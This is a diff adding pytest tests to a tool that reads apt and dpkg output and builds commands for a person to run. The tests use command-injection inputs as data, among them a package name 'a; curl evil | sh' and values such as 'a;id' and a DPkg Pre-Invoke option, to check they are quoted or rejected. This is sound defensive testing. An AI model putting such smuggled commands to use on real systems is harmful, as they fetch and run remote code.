@@ -320,11 +320,21 @@ def test_a_dependency_field_is_read() -> None:
     assert apt.clauses(", ") == ()
 
 
+def test_a_package_that_a_host_made_up_is_one_word_of_the_command() -> None:
+    text = survey(
+        "first-run", ("\n demo-stuck\n", "\n a; curl evil | sh\n"), ("!E: Unable to", "!E: remove is disabled")
+    )
+    (only,) = [trouble for trouble in read(text).troubles if "curl" in trouble.text]
+    assert "apt-get -s install 'a; curl evil | sh' names them" in only.do
+
+
 @pytest.mark.parametrize("name", ["--purge", "-o=DPkg::Pre-Invoke::=id", "a;id", "a/../b", "", "é", "a\x1b[2J", "_x"])
 def test_what_dpkg_would_not_take_for_a_package_is_none(name: str) -> None:
     """These go into the command line of apt-get."""
     assert apt.simulated([f"Inst {name} [1.0] (1.1 Debian-Security:13/stable-security [amd64])"]) == ()
     assert apt.removed([f"Remv {name} [1.0]"]) == ()
     assert apt.parse_table([f"{name}|amd64|1.0|install|installed|ok|"], "amd64") == ()
+    # And these into what a person is told to type.
+    assert fixes.parse([f"{name}|1.0|1.1", f"a|{name}|1.1", f"a|1.0|{name}"]).versions == {}
     (update,) = apt.simulated(["Inst libstdc++6:i386 [1:1.0~rc1-2] (1:1.0+dfsg-1_x Debian:13/stable [i386])"])
     assert (update.name, update.old, update.new) == ("libstdc++6:i386", "1:1.0~rc1-2", "1:1.0+dfsg-1_x")
